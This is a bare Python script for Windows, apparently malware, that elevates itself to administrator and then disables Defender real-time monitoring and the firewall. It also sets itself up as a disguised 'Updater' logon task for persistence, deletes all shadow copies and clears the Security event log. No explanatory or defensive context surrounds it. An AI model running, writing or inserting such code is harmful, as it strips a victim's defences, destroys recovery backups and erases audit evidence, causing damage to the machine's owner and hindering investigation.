import ctypes
import os
import subprocess
import sys

if not ctypes.windll.shell32.IsUserAnAdmin():
    ctypes.windll.shell32.ShellExecuteW(None, "runas", sys.executable, " ".join(sys.argv), None, 1)
    sys.exit()
subprocess.call("powershell Set-MpPreference -DisableRealtimeMonitoring $true", shell=True)
subprocess.call('netsh advfirewall set allprofiles state off', shell=True)
subprocess.call(["schtasks", "/create", "/sc", "onlogon", "/tn", "Updater", "/tr", os.path.abspath(__file__), "/rl", "highest"])
for tool in ("vssadmin delete shadows /all /quiet", "wevtutil cl Security"):
    os.popen(tool)
